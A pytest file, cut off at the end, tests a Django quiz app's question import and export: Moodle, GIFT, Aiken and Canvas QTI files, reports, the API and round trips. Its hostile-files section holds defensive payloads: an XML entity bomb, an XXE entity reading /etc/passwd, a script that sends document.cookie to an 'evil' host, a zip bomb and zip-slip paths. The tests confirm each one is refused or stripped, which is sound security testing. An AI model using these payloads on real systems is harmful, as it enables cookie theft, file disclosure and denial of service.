"""Question files in and out (quizzes.interchange): real files written by Moodle, hostile files, the per-question
report, dry run and "import what is valid", the API, the management command, export and round trips."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from accounts.models import AuditLog
from quizzes import services
from quizzes.interchange import InterchangeError, read_items
from quizzes.interchange.common import open_package
from quizzes.models import Question, QuestionType
from tests.factories import QuestionFactory, QuizFactory, QuizQuestionFactory

FIXTURES = Path(__file__).parent / "fixtures" / "interchange"
MOODLE = FIXTURES / "moodle"
URL = "/api/v1/questions"


def fixture(name: str) -> bytes:
    return (MOODLE / name).read_bytes()


def run(teacher, data: bytes, name: str, **kwargs) -> dict:
    return services.question_file_import(by=teacher.user, data=data, name=name, **kwargs)


def by_status(result: dict) -> dict[str, list[int]]:
    out: dict[str, list[int]] = {}
    for q in result["questions"]:
        out.setdefault(q["status"], []).append(q["number"])
    return out


def reasons(result: dict) -> dict[int, str]:
    return {q["number"]: q["reason"] for q in result["questions"] if q["status"] == "skipped"}


def changes(result: dict, number: int) -> list[str]:
    return next(q["changes"] for q in result["questions"] if q["number"] == number)


# --- real files written by Moodle ----------------------------------------------------------------------------------


@pytest.mark.django_db
def test_moodle_nested_categories_become_topics(teacher):
    result = run(teacher, fixture("nested_categories_with_questions.xml"), "nested.xml")
    assert result["format"] == "moodle_xml"
    assert by_status(result) == {"imported_with_changes": [1, 2, 3, 4, 5]}
    # Moodle's question names are not part of the text: the report says so, question by question.
    assert changes(result, 1) == ["title “Iota Question” not kept (questions have no title)"]
    assert result["imported"] == 5
    rows = {q.text: (q.type, q.topic, q.correct_answer) for q in Question.objects.filter(created_by=teacher)}
    assert rows == {
        "Testing Iota Question": (QuestionType.TRUE_FALSE, "Iota", 0),
        "Testing Kappa Essay Question": (QuestionType.DESCRIPTIVE, "Iota/Kappa", None),
        "Testing Kappa Question": (QuestionType.TRUE_FALSE, "Iota/Kappa", 0),
        "Testing Lambda Question": (QuestionType.TRUE_FALSE, "Iota/Kappa/Lambda", 0),
        "Testing Mu Question": (QuestionType.TRUE_FALSE, "Iota/Mu", 0),
    }


@pytest.mark.django_db
def test_moodle_multiple_response_becomes_a_multiple_response_question(teacher):
    """Moodle refuses this fixture's grades (33 next to 33.33333): for us both are a third, and each of the two
    wrong options costs half, exactly Moodle's weights for the "partial" rule (right share minus wrong share)."""
    result = run(teacher, fixture("error_invalid_grades.xml"), "grades.xml")
    assert by_status(result) == {"imported_with_changes": [1]}
    assert changes(result, 1) == [
        "title “Question with invalid grades : x > 1 & x < 2” not kept (questions have no title)"
    ]
    question = Question.objects.get()
    assert (question.type, question.options) == (QuestionType.MULTIPLE_RESPONSE, ["1", "2", "3", "4", "5"])
    assert question.details == {"correct": [1, 2, 4], "scoring": "partial"}


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.mark.django_db
def test_moodle_19_images_and_cloze(teacher, media):
    result = run(teacher, fixture("sample_questions_with_old_image_tag.xml"), "images.xml", import_valid=True)
    # Moodle's cloze with drop-down gaps: our blanks take typed answers only, so it is refused, and says why.
    assert reasons(result) == {
        1: "gaps of type MULTICHOICE cannot be imported: our blanks take typed answers (short-answer gaps) only"
    }
    assert changes(result, 2) == [
        "image “moodle.png”: alt text “moodle” made from its file name (describe the image)",
        "title “mcq with image” not kept (questions have no title)",
    ]
    question = Question.objects.get()
    (image,) = question.images.all()
    assert (image.alt_text, image.content_type) == ("moodle", "image/png")
    assert image.image.read().startswith(b"\x89PNG")
    assert question.options == ["wrong answer", "another wrong answer", "right answer"]
    assert question.correct_answer == 2
    assert question.topic == "Default for Test images in backup"
    assert question.text == (
        'This is a multichoice question with an image in the old "image" field that was used in Moodle 1.9'
    )


PNG = (MOODLE / "sample_questions_with_old_image_tag.xml").read_text().split("<image_base64>")[1].split("<")[0].strip()
# The shape Moodle 2+ exports (as in its fixtures truefalse.xml and multichoice.xml): files referenced from the HTML
# with @@PLUGINFILE@@ and embedded base64 in <file> elements of the text that uses them.
PLUGINFILE_XML = f"""<?xml version="1.0" encoding="UTF-8"?>
<quiz>
  <question type="multichoice">
    <name><text>Logo</text></name>
    <questiontext format="html">
      <text><![CDATA[<p>Which project uses this logo? <img src="@@PLUGINFILE@@/logo.png" alt="a logo"></p>
<p><a href="@@PLUGINFILE@@/hello.mp3">Listen</a></p>]]></text>
      <file name="logo.png" path="/" encoding="base64">{PNG}</file>
      <file name="hello.mp3" path="/" encoding="base64">SUQzAwAAAAAAEFRDT04=</file>
    </questiontext>
    <defaultgrade>2.5</defaultgrade>
    <single>true</single>
    <answer fraction="100" format="html"><text><![CDATA[<p>Moodle</p>]]></text>
      <feedback format="html"><text>Yes.</text></feedback></answer>
    <answer fraction="0" format="html"><text><![CDATA[<p>Canvas</p>]]></text>
      <feedback format="html"><text></text></feedback></answer>
  </question>
</quiz>""".encode()


@pytest.mark.django_db
def test_moodle_pluginfile_images_are_read_and_reported(teacher, media):
    parsed = read_items(PLUGINFILE_XML)
    (item,) = parsed.items
    assert [(i.name, i.mime, i.data[:4], i.alt) for i in item.images] == [
        ("logo.png", "image/png", b"\x89PNG", "a logo"),
        ("hello.mp3", "audio/mpeg", b"ID3\x03", ""),
    ]
    dry = run(teacher, PLUGINFILE_XML, "logo.xml", dry_run=True)
    assert not Question.objects.exists() and not list(media.rglob("*.png"))
    result = run(teacher, PLUGINFILE_XML, "logo.xml")
    assert (
        changes(result, 1)
        == changes(dry, 1)
        == [
            "HTML formatting removed (<a>, <img>)",
            "file(s) “hello.mp3” not imported (the bank holds no sound, video or other files)",
            "title “Logo” not kept (questions have no title)",
            "marks 2.5 rounded to 3 (marks are whole numbers)",
        ]
    )
    question = Question.objects.get()
    assert question.text == "Which project uses this logo?\n\nListen" and question.options == ["Moodle", "Canvas"]
    assert question.marks == 3
    # The image is a question image: re-encoded by quizzes.services.images, with the <img alt> of the file.
    (image,) = question.images.all()
    assert image.alt_text == "a logo" and image.content_type == "image/png" and image.width > 0
    stored = image.image.read()
    assert stored.startswith(b"\x89PNG") and stored != item.images[0].data
    assert question.details == {"feedback": ["Yes.", ""]}  # per-option feedback kept


@pytest.mark.django_db
def test_moodle_gift_fixture_report(teacher):
    result = run(teacher, fixture("questions.gift.txt"), "questions.gift.txt", dry_run=True)
    assert result["format"] == "gift" and result["total_rows"] == 9
    assert by_status(result) == {"imported_with_changes": [1, 2, 3, 4, 5, 6, 7, 8], "skipped": [9]}
    assert [q["type"] for q in result["questions"]][:8] == [
        "descriptive", "matching", "mcq", "multiple_response", "numeric", "short_answer",
        "true_false", "true_false"]  # fmt: skip
    # The same true/false question twice in one file: the second is a duplicate.
    assert reasons(result)[9].startswith("the same question is already in the bank")
    # Feedback and general feedback are kept now: only the titles are reported for these.
    assert changes(result, 3) == ["title “Q2” not kept (questions have no title)"]
    assert changes(result, 7) == ["title “Q1” not kept (questions have no title)"]
    # What the new types could not keep, said per question.
    assert changes(result, 4) == [
        "each wrong option chosen now costs 50% (scored “partial”: right share minus wrong share, never below 0)",
        "title “colours” not kept (questions have no title)",
    ]
    assert changes(result, 5) == [
        "per-answer feedback not kept (numeric answers have no per-answer feedback)",
        "title “Q5” not kept (questions have no title)",
    ]
    assert changes(result, 6) == [
        "partial credit dropped for “Cat” (50%): only fully correct answers score",
        "per-answer feedback not kept (short answers have no per-answer feedback)",
        "title “Shortanswer” not kept (questions have no title)",
    ]
    assert not Question.objects.exists()
    run(teacher, fixture("questions.gift.txt"), "questions.gift.txt", import_valid=True)
    matching = Question.objects.get(type=QuestionType.MATCHING)
    assert matching.details["distractors"] == ["Chat"]  # "= -> Chat" in Moodle's fixture
    assert Question.objects.get(type=QuestionType.NUMERIC).details == {
        "answers": [{"value": 3.0, "tolerance": 2.0, "fraction": 1.0}]
    }
    colours = Question.objects.get(type=QuestionType.MULTIPLE_RESPONSE)
    assert colours.options == ["yellow", "red", "off-beige", "blue"]
    assert colours.details == {"correct": [0, 2], "scoring": "partial",
                               "feedback": ["right; good!", "wrong", "right; good!", "wrong"]}  # fmt: skip
    assert Question.objects.get(text__startswith="42 is the Absolute").general_feedback


@pytest.mark.django_db
def test_gift_documentation_examples(teacher):
    """Every example of Moodle's GIFT documentation (examples.txt): which import and what the report says."""
    result = run(teacher, fixture("gift_examples.txt"), "examples.txt", import_valid=True)
    assert result["total_rows"] == 43
    skipped = reasons(result)
    kinds = {}
    for number, reason in skipped.items():
        kinds.setdefault(reason, []).append(number)
    assert list(kinds) == ["the same question is already in the bank (or earlier in the file)"]
    duplicates = kinds["the same question is already in the bank (or earlier in the file)"]
    # 22 repeats 8 with a line break in its text: the same question; 16, 18, 19, 38, 43 repeat numerical ones, 31
    # the multiple response of 30 with other weights, 39 the matching of 14.
    assert duplicates == [6, 7, 10, 12, 16, 18, 19, 22, 24, 26, 31, 34, 35, 36, 37, 38, 39, 40, 43]
    assert len(skipped) == 19 and result["imported"] == 24
    types = {q["number"]: q["type"] for q in result["questions"] if q["status"] != "skipped"}
    assert [n for n, t in types.items() if t == "numeric"] == [5, 17, 20]
    assert [n for n, t in types.items() if t == "matching"] == [14, 15]
    assert [n for n, t in types.items() if t == "multiple_response"] == [30]
    bank = {q.text: q for q in Question.objects.filter(created_by=teacher)}
    # Missing-word questions keep a blank where the answers were.
    assert bank["Grant is _____ in Grant's tomb."].options == ["buried", "entombed", "living"]
    assert bank["Two plus two equals _____."].accepted_answers == ["four", "4"]
    # Escaped control characters are literal text.
    assert bank["Which answer equals 5?"].options == ["= 2 + 2", "= 2 + 3", "= 2 + 4"]
    control = next(q for t, q in bank.items() if t.startswith("Which of the following is NOT"))
    assert control.options == ["~", "=", "#", "{", "}", "\\"] and control.correct_answer == 5
    assert bank["The sun rises in the east."].correct_answer == 0
    jesus = Question.objects.get(text="Jesus Christ was from _____.", type=QuestionType.MCQ)
    assert jesus.options[jesus.correct_answer] == "Nazareth"
    # Partial credit and per-option feedback are kept now: only the title is reported.
    assert changes(result, 28) == ["title “Jesus' hometown” not kept (questions have no title)"]
    assert jesus.details == {
        "fractions": [0.0, 0.25, 0.5, 1.0],
        "feedback": [
            "This was an important city, but the wrong answer.",
            "He was born here, but not raised here.",
            "You need to be more specific.",
            "Yes! That's right!",
        ],
    }
    assert changes(result, 30) == [
        "each wrong option chosen now costs 50% (scored “partial”: right share minus wrong share, never below 0)"
    ]
    born = Question.objects.get(text="When was Ulysses S. Grant born?")
    assert born.type == QuestionType.NUMERIC and born.details == {
        "answers": [{"value": 1822.0, "tolerance": 1.0, "fraction": 1.0}]
    }
    assert Question.objects.get(
        text="Jesus Christ was from _____.", type=QuestionType.SHORT_ANSWER
    ).accepted_answers == ["Nazareth"]


@pytest.mark.django_db
def test_aiken_with_windows_line_endings_and_bom(teacher):
    data = b"\xef\xbb\xbf" + fixture("questions.aiken.txt").replace(b"\n", b"\r\n")
    result = run(teacher, data, "questions.txt")
    assert result["format"] == "aiken" and by_status(result) == {"imported": [1, 2]}
    first, second = Question.objects.order_by("text")
    assert second.text == "The Moodle project was started by:"
    assert second.options == ["Petr Skoda", "Martin Dougiamas", "Eloy Lafuente", "Tim Hunt"]
    assert second.correct_answer == 1
    # Aiken text is plain text: markup in it is kept as the characters the teacher typed.
    assert first.text == 'Moodle\'s abilities include handling user input that includes <html class="cool"> & images:'
    assert first.type == QuestionType.MCQ and first.options == ["True", "False"] and first.correct_answer == 0


@pytest.mark.django_db
def test_aiken_broken_questions_are_reported(teacher):
    data = b"Q1?\nA) a\nB) b\nANSWER: C\n\nQ2?\nA) yes\nB) no\nANSWER: A\n\nQ3 without options\nANSWER: A\n"
    result = run(teacher, data, "broken.txt", dry_run=True)
    assert reasons(result) == {
        1: "ANSWER: C names no option",
        3: "a question needs at least two options (A) ... B) ...)",
    }
    assert result["would_import"] == 1


# --- files written by Canvas --------------------------------------------------------------------------------------

CANVAS = FIXTURES / "canvas"
CANVAS_MANIFEST = b"""<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="g1" xmlns="http://www.imsglobal.org/xsd/imsccv1p1/imscp_v1p1">
  <metadata><schema>IMS Content</schema><schemaversion>1.1.3</schemaversion></metadata>
  <organizations/>
  <resources>
    <resource identifier="g2" type="imsqti_xmlv1p2">
      <file href="g2/g2.xml"/>
      <dependency identifierref="g3"/>
    </resource>
    <resource identifier="g3" type="associatedcontent/imscc_xmlv1p1/learning-application-resource"
              href="g2/assessment_meta.xml">
      <file href="g2/assessment_meta.xml"/>
    </resource>
  </resources>
</manifest>"""


@pytest.mark.django_db
def test_canvas_qti_12_package(teacher):
    """Canvas's export layout: imsmanifest.xml naming the QTI 1.2 file, next to Canvas's own assessment_meta.xml
    (not QTI, and not read). The question file is Canvas's own fixture."""
    package = _zip(
        {
            "imsmanifest.xml": CANVAS_MANIFEST,
            "g2/g2.xml": (CANVAS / "multiple_choice_html.xml").read_bytes(),
            "g2/assessment_meta.xml": b"<quiz><title>not questions</title></quiz>",
        }
    )
    result = run(teacher, package, "canvas-export.zip")
    assert result["format"] == "qti12" and by_status(result) == {"imported_with_changes": [1]}
    assert result["format_label"] == "Canvas QTI 1.2"
    assert changes(result, 1) == [
        "HTML formatting removed (<strong>)",
        "title “test fun” not kept (questions have no title)",
    ]
    question = Question.objects.get()
    assert (question.text, question.options, question.correct_answer, question.marks, question.topic) == (
        "html for fun", ["html answer 1", "html answer 2"], 0, 10, "Test Bank")  # fmt: skip


@pytest.mark.django_db
def test_qti_21_items_converted_from_canvas(teacher):
    """QTI 2.1 items written by Canvas's QTI converter: scored in responseProcessing, no correctResponse."""
    got = {}
    for name in ("true_false.xml", "short_answer.xml", "essay.xml"):
        result = run(teacher, (CANVAS / name).read_bytes(), name)
        assert result["format"] == "qti21" and result["imported"] == 1, result["questions"]
        got[name] = result["questions"][0]
    assert Question.objects.get(type=QuestionType.TRUE_FALSE).correct_answer == 1
    short = Question.objects.get(type=QuestionType.SHORT_ANSWER)
    assert short.accepted_answers == ["short answer", "Something else"] and short.marks == 19
    essay = Question.objects.get(type=QuestionType.DESCRIPTIVE)
    assert essay.text == "Why do we have so many types now‽ <-- unicode character, you're screwed!" and essay.marks == 6
    assert got["essay.xml"]["changes"] == ["title “essay” not kept (questions have no title)"]
    assert essay.general_feedback


# --- dry run, refusal, import what is valid ------------------------------------------------------------------------

MIXED_GIFT = b"""
::one::Capital of France?{=Paris ~London ~Rome}

::two::Pi to two decimals?{#three}

::three::The sun is a star.{T}
"""


@pytest.mark.django_db
def test_real_run_with_a_skipped_question_writes_nothing_unless_import_valid(teacher):
    dry = run(teacher, MIXED_GIFT, "mixed.gift", dry_run=True)
    assert dry["would_import"] == 2 and dry["imported"] == 0 and not Question.objects.exists()
    refused = run(teacher, MIXED_GIFT, "mixed.gift")
    assert refused["refused"] and refused["imported"] == 0 and "Nothing was imported" in refused["message"]
    assert not Question.objects.exists()
    done = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
    assert done["imported"] == 2 and Question.objects.count() == 2
    assert AuditLog.objects.filter(action="question.bulk_import").count() == 1
    # Importing the same file again: duplicates are skipped but do not block.
    again = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
    assert again["imported"] == 0 and Question.objects.count() == 2


# --- hostile files -------------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>"""
SCRIPTED = b"""<?xml version="1.0" encoding="UTF-8"?><quiz><question type="essay"><name><text>x</text></name>
<questiontext format="html"><text><![CDATA[<p onclick="steal()">Explain <b>osmosis</b>.
<script>fetch('//evil/'+document.cookie)</script></p><img src=x onerror=alert(1)>]]></text></questiontext>
</question></quiz>"""


@pytest.mark.django_db
@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
def test_xml_with_a_dtd_is_refused_unread(teacher, data):
    with pytest.raises(InterchangeError, match="declares a DTD or entities"):
        run(teacher, data, "evil.xml")
    assert not Question.objects.exists()


@pytest.mark.django_db
def test_scripts_in_html_question_text_are_stripped(teacher):
    result = run(teacher, SCRIPTED, "scripted.xml")
    question = Question.objects.get()
    assert question.text == "Explain osmosis."
    assert "scripts or event handlers removed from the text" in changes(result, 1)
    assert "HTML formatting removed (<b>, <img>, <script>)" in changes(result, 1)


def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_zip_bomb_is_refused_from_its_directory():
    bomb = _zip({"imsmanifest.xml": b"<manifest/>", "items/q.xml": b"\0" * (200 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    with pytest.raises(InterchangeError, match="unpacks to more than 100 times its size"):
        open_package(bomb)


@pytest.mark.parametrize("name", ["../../etc/cron.d/evil.xml", "/etc/passwd", "items\\..\\..\\x.xml", "C:/x.xml"])
def test_zip_slip_is_refused(name):
    with pytest.raises(InterchangeError, match="leaves the package"):
        open_package(_zip({"imsmanifest.xml": b"<manifest/>", name: b"<x/>"}))


def test_too_many_members_and_too_large_packages_are_refused():
    with pytest.raises(InterchangeError, match="at most 2000"):
        open_package(_zip({f"f{i}.xml": b"" for i in range(2001)}, level=1))


@pytest.mark.django_db
def test_a_50_mb_file_is_refused_by_the_service_and_the_api(teacher, api_for):
    big = b"Q?{T}\n\n" * (50 * 1024 * 1024 // 7)
    with pytest.raises(InterchangeError, match="larger than 5 MB"):
        run(teacher, big, "big.gift")
    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": SimpleUploadedFile("big.gift", big)}, format="multipart")
    assert r.status_code == 413 and "larger than 5 MB" in r.json()["detail"]
    assert not Question.objects.exists()


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"<quiz><question type='essay'>", "not well-formed XML"),
        (b"<html><body>hi</body></html>", "not Moodle XML"),
        (b"PK\x03\x04garbage", "not a readable zip"),
        (b"\x00\x01binary", "not a text file"),
    ],
)
def test_unreadable_files_get_a_clear_error(teacher, data, message):
    with pytest.raises(InterchangeError, match=message):
        run(teacher, data, "x.gift" if data.startswith(b"\x00") else "x.xml")


# --- API and management command ------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_api_bulk_import_takes_moodle_xml_with_the_report(api_for, teacher):
    upload = SimpleUploadedFile("nested.xml", fixture("nested_categories_with_questions.xml"))
    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload, "dry_run": "true"}, format="multipart")
    body = r.json()
    assert r.status_code == 200 and body["format"] == "moodle_xml" and body["would_import"] == 5
    assert [q["status"] for q in body["questions"]] == ["imported_with_changes"] * 5
    assert not Question.objects.exists()
    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload}, format="multipart")
    assert r.status_code == 422 and "Nothing was imported" in r.json()["detail"]
    assert r.json()["questions"][1]["reason"] == "a numerical answer is not a number"
    assert not Question.objects.exists()
    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
    r = api_for(teacher).post(
        f"{URL}/bulk-import", {"file": upload, "import_valid": "true", "format": "gift"}, format="multipart"
    )
    assert r.status_code == 200 and r.json()["imported"] == 2


@pytest.mark.django_db
def test_api_bulk_import_outsiders(api_for, api, student, admin, teacher):
    def upload():
        return SimpleUploadedFile("q.gift", MIXED_GIFT)

    assert api_for(student).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 403
    assert api.post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 401
    r = api_for(admin).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart")
    assert r.status_code == 400 and "created_by" in r.json()["detail"]
    assert not Question.objects.exists()


@pytest.mark.django_db
def test_management_command(teacher, tmp_path, capsys):
    path = tmp_path / "q.gift"
    path.write_bytes(MIXED_GIFT)
    call_command("import_questions", str(path), "--owner", teacher.user.email, "--dry-run")
    out = capsys.readouterr().out
    assert "2  skipped  line 4 “two”: a numerical answer is not a number" in out and "Dry run" in out
    assert not Question.objects.exists()
    call_command("import_questions", str(path), "--owner", teacher.user.email, "--import-valid")
    assert Question.objects.count() == 2


# --- export and round trips ----------------------------------------------------------------------------------------


@pytest.fixture
def bank(teacher):
    return [
        QuestionFactory(
            created_by=teacher,
            text="Capital of France?",
            topic="Geography",
            marks=2,
            options=["London", "Paris", "Rome"],
            correct_answer=1,
        ),  # fmt: skip
        QuestionFactory(
            created_by=teacher,
            type=QuestionType.TRUE_FALSE,
            text="The sun is a star.",
            topic="Science",
            options=["True", "False"],
            correct_answer=0,
            marks=1,
        ),  # fmt: skip
        QuestionFactory(
            created_by=teacher,
            type=QuestionType.SHORT_ANSWER,
            text="Symbol of gold?",
            topic="Chemistry",
            options=None,
            correct_answer=None,
            accepted_answers=["Au", "gold"],
            case_sensitive=True,
            marks=3,
        ),  # fmt: skip
        QuestionFactory(
            created_by=teacher,
            type=QuestionType.DESCRIPTIVE,
            text="Explain erosion.",
            topic="Geography",
            options=None,
            correct_answer=None,
            sample_answer="Water moves soil.",
            marking_rubric="2 marks per idea",
            marks=5,
        ),  # fmt: skip
    ]


# Every character GIFT, XML and HTML treat specially, and two paragraphs.
TRICKY = "Is 2 < 3 & is <b> a tag?\n\nBraces {x}, ~tilde, =equals, #hash, :colon:: and a \\backslash."


@pytest.fixture
def tricky(teacher):
    return QuestionFactory(
        created_by=teacher,
        text=TRICKY,
        topic="Tricky/Characters",
        marks=1,
        options=["a < b", "{x} ~ y = z # w", "back\\slash: yes", "[html] not a format"],
        correct_answer=2,
    )


KEY_FIELDS = ("text", "type", "options", "correct_answer", "accepted_answers")


def _key(q: Question, fields=KEY_FIELDS) -> tuple:
    return tuple(getattr(q, f) for f in fields)


# What each format carries besides the key, for the round trip.
ROUND_TRIP = {
    "moodle_xml": ("topic", "marks", "case_sensitive", "sample_answer", "marking_rubric"),
    "gift": ("topic",),
    "qti21": ("topic", "marks", "case_sensitive"),
    "qti12": ("marks",),
}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", list(ROUND_TRIP))
def test_round_trip(fmt, teacher, other_teacher, bank, tricky):
    bank = [*bank, tricky]
    export = services.question_export(by=teacher.user, questions=bank, fmt=fmt)
    assert export.summary["exported"] == 5
    result = services.question_file_import(by=other_teacher.user, data=export.data, name=export.filename)
    assert result["imported"] == 5, result["questions"]
    fields = KEY_FIELDS + ROUND_TRIP[fmt]
    if fmt == "moodle_xml":
        fields = tuple(f for f in fields if f != "sample_answer") + ("sample_answer",)
    back = sorted((_key(q, fields) for q in Question.objects.filter(created_by=other_teacher)), key=str)
    original = sorted((_key(q, fields) for q in bank), key=str)
    assert back == original


@pytest.mark.django_db
def test_export_report_says_what_each_format_loses(teacher, bank):
    gift = services.question_export(by=teacher.user, questions=bank, fmt="gift")
    report = {r["text"]: r for r in gift.report}
    assert report["Capital of France?"]["changes"] == ["marks (2) not kept: the format has none, importers use 1"]
    assert report["Explain erosion."]["changes"] == [
        "marks (5) not kept: the format has none, importers use 1",
        "sample answer not kept",
        "marking rubric not kept",
    ]
    assert report["The sun is a star."]["status_label"] == "exported as is"
    aiken = services.question_export(by=teacher.user, questions=bank, fmt="aiken")
    assert [r["status"] for r in aiken.report] == ["imported_with_changes", "imported_with_changes", "skipped",
                                                   "skipped"]  # fmt: skip
    assert aiken.report[2]["reason"] == "short answer: Aiken holds single-answer multiple choice only"


@pytest.mark.django_db
def test_export_api(api_for, api, teacher, other_teacher, student, bank):
    r = api_for(teacher).get(f"{URL}/export", {"format": "moodle_xml"})
    assert r.status_code == 200 and r["Content-Disposition"] == 'attachment; filename="questions.xml"'
    assert r["X-Export-Report"] == "exported=4; changed=0; skipped=0"
    assert read_items(r.content).format == "moodle_xml" and len(read_items(r.content).items) == 4
    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "topic": "Geography", "report": "true"})
    assert r.status_code == 200 and [q["text"] for q in r.json()["questions"]] == [
        "Capital of France?", "Explain erosion."]  # fmt: skip
    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[2].pk), "report": "1"})
    assert [q["text"] for q in r.json()["questions"]] == ["Symbol of gold?"]
    quiz = QuizFactory(created_by=teacher)
    QuizQuestionFactory(quiz=quiz, question=bank[3], order_index=0)
    QuizQuestionFactory(quiz=quiz, question=bank[0], order_index=1)
    r = api_for(teacher).get(f"{URL}/export", {"format": "qti21", "quiz": str(quiz.pk), "report": "1"})
    assert [q["text"] for q in r.json()["questions"]] == ["Explain erosion.", "Capital of France?"]
    assert api_for(teacher).get(f"{URL}/export", {"format": "pdf"}).status_code == 400
    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "type": "poem"})
    assert r.status_code == 400 and "poem" in r.json()["detail"]  # a bad filter is an error, not "the whole bank"
    # Outsiders: another teacher's quiz is a 404, their own empty bank a 400; students 403, anonymous 401.
    assert api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "quiz": str(quiz.pk)}).status_code == 404
    r = api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[0].pk)})
    assert r.status_code == 400 and "no questions" in r.json()["detail"]
    assert api_for(student).get(f"{URL}/export", {"format": "gift"}).status_code == 403
    assert api.get(f"{URL}/export", {"format": "gift"}).status_code == 401


# --- pages ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def web(client):
    def login(persona):
        client.force_login(getattr(persona, "user", persona))
        return client

    return login


@pytest.mark.django_db
def test_import_page_report_refusal_and_import_what_is_valid(web, teacher):
    client = web(teacher)
    url = reverse("quizzes:question_import")

    def post(**extra):
        return client.post(url, {"file": SimpleUploadedFile("mixed.gift", MIXED_GIFT), **extra}).content.decode()

    page = post(dry_run="on")
    assert "Dry run — GIFT" in page and "2 question(s) would be imported" in page
    assert "a numerical answer is not a number" in page and "imported with changes" in page
    assert "title “one” not kept (questions have no title)" in page
    page = post()
    assert "Nothing was imported: 1 question(s) cannot be imported." in page
    assert "not imported (nothing was written)" in page and not Question.objects.exists()
    r = client.post(url, {"file": SimpleUploadedFile("mixed.gift", MIXED_GIFT), "import_valid": "on"})
    assert Question.objects.count() == 2 and "2 question(s) imported (2 with changes), 1 skipped." in r.content.decode()
    page = client.post(url, {"file": SimpleUploadedFile("evil.xml", BILLION_LAUGHS)}).content.decode()
    assert "declares a DTD or entities" in page


@pytest.mark.django_db
def test_export_page_report_and_download(web, teacher, other_teacher, bank):
    client = web(teacher)
    url = reverse("quizzes:question_export")
    page = client.get(url, {"format": "gift", "topic": "Geography"}).content.decode()
    assert "2 question(s) exported, 2 with changes" in page and "Capital of France?" in page
    assert "Symbol of gold?" not in page and "marks (5) not kept" in page
    r = client.get(url, {"format": "gift", "topic": "Geography", "download": "1"})
    assert r["Content-Disposition"] == 'attachment; filename="questions.gift.txt"'
    assert b"Capital of France?{" in r.content and b"Symbol of gold" not in r.content
    # Another teacher exports their own (empty) bank, never this one.
    page = web(other_teacher).get(url, {"format": "gift"}).content.decode()
    assert "There are no questions to export." in page


@pytest.mark.django_db
def test_quiz_page_exports_the_quiz_questions_in_order(web, teacher, other_teacher, bank):
    quiz = QuizFactory(created_by=teacher)
    QuizQuestionFactory(quiz=quiz, question=bank[3], order_index=0)
    QuizQuestionFactory(quiz=quiz, question=bank[0], order_index=1)
    client = web(teacher)
    detail = client.get(reverse("quizzes:detail", args=[quiz.pk])).content.decode()
    link = f"{reverse('quizzes:question_export')}?quiz={quiz.pk}"
    assert link in detail
    page = client.get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk)}).content.decode()
    assert "This field is required" not in page and f'name="quiz" value="{quiz.pk}"' in page
    r = client.get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk), "format": "moodle_xml", "download": "1"})
    names = [i.text for i in read_items(r.content).items]
    assert names == ["Explain erosion.", "Capital of France?"]
    # Another teacher's quiz: 404, nothing exported.
    r = web(other_teacher).get(reverse("quizzes:question_export"), {"quiz": str(quiz.pk), "format": "gift"})
    assert r.status_code == 404


@pytest.mark.django_db
def test_import_and_export_pages_outsiders(client, web, student):
    for url in (reverse("quizzes:question_export"), reverse("quizzes:question_import")):
        r = client.get(url)
        assert r.status_code == 302 and "/accounts/login/" in r["Location"]
    client = web(student)
    assert client.get(reverse("quizzes:question_export"), {"format": "gift"}).status_code == 403


# --- large files: a Celery worker ------------------------------------------------------------------------------------


def _many_questions(n: int) -> bytes:
    return "\n\n".join(f"Question {i}: is {i} even?{{{'T' if i % 2 == 0 else 'F'}}}" for i in range(n)).encode()


@pytest.mark.django_db
def test_a_large_file_is_imported_by_a_job(api_for, teacher, other_teacher, student, monkeypatch,
                                           django_capture_on_commit_callbacks):  # fmt: skip
    monkeypatch.setattr("quizzes.services.imports.QUESTION_ASYNC_THRESHOLD", 10)
    with django_capture_on_commit_callbacks(execute=True):  # Celery runs eagerly here; a real worker below
        r = api_for(teacher).post(
